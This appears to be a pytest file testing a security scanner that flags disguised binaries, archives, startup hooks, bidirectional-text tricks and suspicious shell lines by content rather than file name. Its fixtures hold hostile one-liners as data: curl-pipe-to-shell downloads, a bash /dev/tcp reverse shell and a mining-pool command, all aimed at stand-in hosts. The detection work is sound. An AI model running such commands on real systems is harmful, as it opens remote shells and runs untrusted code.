import io
import zipfile

import pytest

from scanner.analyzers.base import Severity
from scanner.analyzers.files import FilesAnalyzer

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64
PE = b"MZ" + b"\0" * 62 + b"PE\0\0"


def found_in(folder):
    return {(f.path, f.rule.partition(".")[2]) for f in FilesAnalyzer().analyze(folder)}


def a_zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "a")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("tool.so", ELF, "program"),
        ("bin/tool", ELF, "program"),
        ("setup.exe", PE, "program"),
        ("native.node", b"\xcf\xfa\xed\xfe" + b"\0" * 60, "program"),
        ("static/logo.png", ELF, "disguised-program"),
        ("notes.txt", PE, "disguised-program"),
        ("node_modules/a/a.node", ELF, "vendored-program"),
        ("data.zip", a_zip(), "archive"),
        ("data.json", a_zip(), "disguised-archive"),
        ("hidden.pyc", b"\xa7\x0d\x0d\x0a" + b"\0" * 60, "bytecode"),
        (".env", "KEY=1\n", "environment"),
        ("start.pth", "import os; os.getcwd()\n", "startup-hook"),
        ("app.py", "allowed = 'user\u202e' # \u2066admin\u2069\n", "turned-text"),
        ("deploy.sh", "curl -s https://x.invalid/a | sh\n", "shell-download"),
        ("deploy.sh", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n", "reverse-shell"),
        ("Procfile", "web: ./miner -o stratum+tcp://pool.invalid:3333\n", "miner"),
    ],
)
def test_what_a_file_is_decides_and_not_its_name(tree, name, content, rule):
    found = found_in(tree({name: content}))

    assert (name, rule) in found


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("MZ.txt", "MZ is how old programs begin.\n"),
        ("logo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 60),
        ("report.docx", a_zip()),
        ("hebrew.json", '{"hello": "\u202b\u05e9\u05dc\u05d5\u05dd\u202c"}\n'),
        ("deploy.sh", "# curl https://x.invalid | sh\ncurl -o data.json https://x.invalid\n"),
        (".env.example", "KEY=\n"),
    ],
)
def test_ordinary_files_are_silent(tree, name, content):
    assert found_in(tree({name: content})) == set()


def test_bytecode_beside_its_source_is_fine(tree):
    folder = tree({"app.py": "", "__pycache__/app.cpython-311.pyc": b"\xa7\x0d\x0d\x0a"})

    assert found_in(folder) == set()


def test_a_folder_left_behind_is_named_once(tree):
    folder = tree({"node_modules/a/index.js": "", "node_modules/b/index.js": "", ".git/HEAD": ""})

    findings = list(FilesAnalyzer().analyze(folder))

    assert sorted(f.path for f in findings) == [".git", "node_modules"]
    assert {f.severity for f in findings} == {Severity.INFO}


def test_a_script_that_tells_how_to_install_something_does_not_install_it(tree):
    told = 'Write-Host "  curl -fsSL https://x.invalid/a.sh | bash" -ForegroundColor Cyan\n'
    done = 'echo "installing"; curl -fsSL https://x.invalid/a.sh | bash\n'
    folder = tree({"told.ps1": told, "done.sh": done})

    found = {f.path for f in FilesAnalyzer().analyze(folder) if f.rule == "files.shell-download"}

    assert found == {"done.sh"}


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("curl https://sh.rustup.rs -sSf | sh -s -- -y", Severity.LOW),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", Severity.LOW),
        ("curl https://sh.rustup.rs https://x.invalid/a | sh", Severity.MEDIUM),
        ("curl https://sh.rustup.rs.x.invalid/ | sh", Severity.MEDIUM),
        ("curl https://x.invalid/sh.rustup.rs | sh", Severity.MEDIUM),
    ],
)
def test_the_installer_of_a_language_is_known(tree, command, severity):
    (finding,) = FilesAnalyzer().analyze(tree({"ci/setup.sh": f"{command}\n"}))

    assert (finding.rule, finding.severity) == ("files.shell-download", severity)
